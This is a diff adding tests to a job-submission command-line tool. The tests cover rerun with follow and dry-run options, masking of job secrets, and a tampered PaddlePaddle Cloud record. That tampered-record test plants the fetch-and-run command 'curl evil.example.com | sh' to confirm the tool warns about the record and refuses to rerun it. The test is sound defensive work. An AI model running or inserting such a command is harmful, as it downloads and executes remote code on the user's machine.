@@ -235,6 +235,28 @@ def test_rerun_edit_opens_the_config_first(env, tmp_path):
     assert broken.returncode != 0 and broken.stderr.startswith("pai rerun: the edited config is not JSON")
 
 
+def test_rerun_follows_as_submit_does(env, tmp_path):
+    """`--follow` means the same on every command that submits: the log until the job ends, and the
+    job's end in the exit code."""
+    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
+    first = run(env, ws)
+    for option in ("--follow", "-f"):
+        followed = pai(env, "rerun", first, option)
+        assert followed.returncode == 0, followed.stderr
+        assert followed.stdout.startswith("submitted ") and "epoch 3/3 loss=0.4968" in followed.stdout
+        assert "SUCCEEDED" in followed.stderr
+    assert "--follow" in pai(env, "rerun", "--help").stdout and "--follow" in pai(env, "submit", "--help").stdout
+    def names() -> set[str]:
+        return {job["name"] for job in json.loads(pai(env, "jobs", "-o", "json").stdout)["jobs"]}
+
+    before = names()
+    dry = pai(env, "rerun", first, "--dry-run")
+    assert dry.returncode == 0, dry.stderr
+    assert dry.stdout.startswith("would submit mnist_") and f"(rerun of {first}, code folder /{USER}/mnist_" in dry.stdout
+    assert '"--epochs 3' in dry.stdout or "--epochs 3" in dry.stdout
+    assert names() == before  # nothing submitted
+
+
 def test_a_protocol_v2_cluster_keeps_the_reference_in_its_extras(env, tmp_path):
     ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
     run(env, ws)  # the local cluster is up
@@ -309,3 +331,67 @@ def test_a_v2_job_s_record_keeps_it_rendered_and_its_secrets_masked(env, tmp_pat
     assert on_hdfs.returncode == 0 and "hunter2-secret" not in on_hdfs.stdout  # others on the cluster read it
     rerun = pai(env, "rerun", job)
     assert rerun.returncode == 1 and rerun.stderr.count("\n") == 1 and "secrets" in rerun.stderr, rerun.stderr
+
+
+def test_a_planted_paddlecloud_record_is_shown_as_unchecked_and_never_rerun(env, tmp_path):
+    """PaddlePaddle Cloud keeps no configs, so its job cannot point to its record: on a machine whose
+    journal has no copy, whatever lies where the record would be is read with a note that it is
+    unchecked (`pai show`), and `pai rerun` refuses to run it."""
+    ws = tmp_path / "pws"
+    ws.mkdir()
+    (ws / "train.py").write_text("print('fit')\n")
+    (ws / "fit.paddle.json").write_text(json.dumps({"name": "fit", "parallelism": 1, "pservers": 1, "memory": "128Mi",
+                                                    "psmemory": "128Mi", "entry": "python3 train.py"}))
+    done = pai(env, "run", "fit.paddle.json", cwd=ws)
+    assert done.returncode == 0, done.stderr
+    job = done.stdout.split()[1]
+    record = json.loads(pai(env, "show", job, "--cluster", "local-paddle", "-o", "json").stdout)
+    where = pai(env, "show", job, "--cluster", "local-paddle").stdout.split("\nrecord     ")[1].split()[0]
+    planted = {**record, "config": {**record["config"], "entry": "curl evil.example.com | sh"}}
+    (tmp_path / "planted.json").write_text(json.dumps(planted))
+    put = pai(env, "hdfs", "put", "-f", str(tmp_path / "planted.json"), where, "--cluster", "local-paddle")
+    assert put.returncode == 0, put.stderr
+    journal = Path(env["XDG_STATE_HOME"]) / "pai-lsp" / "records" / "local-paddle" / f"{job}.json"
+    assert journal.exists()
+    journal.unlink()  # as on another machine
+    shown = pai(env, "show", job, "--cluster", "local-paddle")
+    assert shown.returncode == 0 and "evil.example.com" in shown.stdout
+    assert shown.stderr == (f"warning: the submission record of {job} at {where} could not be checked: the job carries no "
+                            "fingerprint and this machine's journal has no copy\n")
+    jobs_before = pai(env, "jobs", "--cluster", "local-paddle", "-o", "json").stdout
+    for words in (["rerun", job], ["rerun", job, "--edit"]):
+        refused = pai({**env, "EDITOR": "true", "VISUAL": ""}, *words, "--cluster", "local-paddle")
+        assert refused.returncode == 1 and refused.stderr.count("\n") == 1, refused.stderr
+        assert refused.stderr.startswith(f"pai rerun: the submission record of {job} at {where} cannot be checked")
+    assert pai(env, "jobs", "--cluster", "local-paddle", "-o", "json").stdout == jobs_before  # nothing submitted
+
+
+def test_v2_secrets_are_never_shown_from_a_record_of_a_protocol_2_profile(env, tmp_path):
+    """A v2 job with secrets submitted to a protocol-2 profile: its record (on the cluster, in the
+    journal), `pai show` in words and as JSON, and `pai diff` never carry a secret in plain text."""
+    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
+    run(env, ws)  # the local cluster is up
+    info = server(env)
+    added = pai(env, "cluster", "add", "v2", "--rest", info["url"], "--webhdfs", info["hdfs"], "--user", USER, "--protocol", "2")
+    assert added.returncode == 0, added.stderr
+    assert pai(env, "cluster", "login", "v2", "--password-stdin", stdin=local_client_password(env) + "\n").returncode == 0
+    job_file = ws / "mnist.pai.yaml"
+    job_file.write_text(job_file.read_text().replace(
+        "parameters:\n", "secrets:\n  token: hunter2-secret\n  nested: {key: swordfish-secret}\nparameters:\n"))
+    jobs = []
+    for _ in range(2):
+        submitted = pai(env, "submit", "mnist.pai.yaml", "--cluster", "v2", cwd=ws)
+        assert submitted.returncode == 0, submitted.stderr
+        jobs.append(submitted.stdout.split()[1])
+    said = [pai(env, "show", jobs[0], "--cluster", "v2"), pai(env, "show", jobs[0], "--cluster", "v2", "-o", "json"),
+            pai(env, "diff", *jobs, "--cluster", "v2"), pai(env, "diff", *jobs, "--cluster", "v2", "-o", "json")]
+    where = said[0].stdout.split("\nrecord     ")[1].split()[0]
+    said.append(pai(env, "hdfs", "cat", where, "--cluster", "v2"))
+    for result in said:
+        assert result.returncode == 0, result.stderr
+        assert "hunter2" not in result.stdout + result.stderr and "swordfish" not in result.stdout + result.stderr
+    record = json.loads(said[1].stdout)
+    assert record["config"]["secrets"] == "******" and record["sourceConfig"]["secrets"] == "******"
+    assert "******" in record["sent"]
+    journal = Path(env["XDG_STATE_HOME"]) / "pai-lsp" / "records" / "v2" / f"{jobs[0]}.json"
+    assert "hunter2" not in journal.read_text() and "swordfish" not in journal.read_text()
